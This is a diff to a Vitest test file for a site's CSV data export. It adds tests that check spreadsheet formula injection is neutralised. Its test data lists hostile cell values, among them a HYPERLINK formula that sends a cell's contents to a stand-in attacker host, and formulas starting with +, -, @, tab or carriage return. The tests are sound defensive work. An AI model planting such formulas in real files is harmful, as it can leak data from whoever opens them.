@@ -1,8 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { tableCsv, tableJson, tables, csvHeader, dataFiles } from '../../../src/lib/exports/tables.ts';
-import { csvField } from '../../../src/lib/exports/csv.ts';
 import { contentIndex, contentArchive, indexWith, SITE } from '../../support/archive-fixture.ts';
 import { parseCsv } from '../../support/csv.ts';
+import { openInSpreadsheet } from '../../support/spreadsheet.ts';
 
 describe('the data files', () => {
   const index = contentIndex();
@@ -86,10 +86,28 @@ describe('the data files', () => {
     expect(tableJson('opfoelgning', idx, SITE)).not.toContain('2027-01-05-kladde');
   });
 
-  it('quote only where RFC 4180 needs it', () => {
-    expect(csvField('plain')).toBe('plain');
-    expect(csvField('a;b')).toBe('"a;b"');
-    expect(csvField('say "x"')).toBe('"say ""x"""');
-    expect(csvField('two\nlines')).toBe('"two\nlines"');
+  it('neutralise cells a spreadsheet would run as a formula (OWASP): a quote in front, the cell quoted', () => {
+    const hostile = ['=HYPERLINK("https://angriber.example/?x="&A1;"Klik")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+2', '\r=1+2', '=1+2'];
+    const data = contentArchive();
+    const decisions = hostile.map((title, i) => ({ ...data.decisions[0], id: `2025-11-18-9${'abcdefg'[i]}`, body: 'Tekst.', data: { ...data.decisions[0].data, title } }));
+    const idx = indexWith({}, { ...data, decisions });
+    const csv = tableCsv('beslutninger', idx, SITE);
+    const sheet = openInSpreadsheet(csv);
+    const titleColumn = sheet[0].findIndex((c) => c.value === 'titel');
+    const titles = sheet.slice(1).map((row) => row[titleColumn]);
+    expect(titles.map((c) => c.formula)).toEqual(hostile.map(() => undefined));
+    expect(titles.map((c) => c.value)).toEqual(hostile.map((t) => `'${t}`));
+    expect(parseCsv(csv).rows.map((r) => r.titel)).toEqual(hostile.map((t) => `'${t}`));
+    for (const t of hostile) expect(csv).toContain(`"'${t.replace(/"/g, '""')}"`);
+  });
+
+  it('are checked by a reader that does take a bare "=" cell for a formula', () => {
+    expect(openInSpreadsheet('\uFEFFa;b\r\n=1+2;x\r\n')[1][0].formula).toBe('1+2');
+  });
+
+  it('leave plain text, including a dash inside a cell, as it is', () => {
+    const row = parseCsv(tableCsv('beslutninger', index, SITE)).rows.find((r) => r.id === '2025-11-18-2b')!;
+    expect(row.titel.startsWith("'")).toBe(false);
+    expect(tableCsv('moeder', index, SITE)).toContain(';18-11-2025;2025-11-18;');
   });
 });
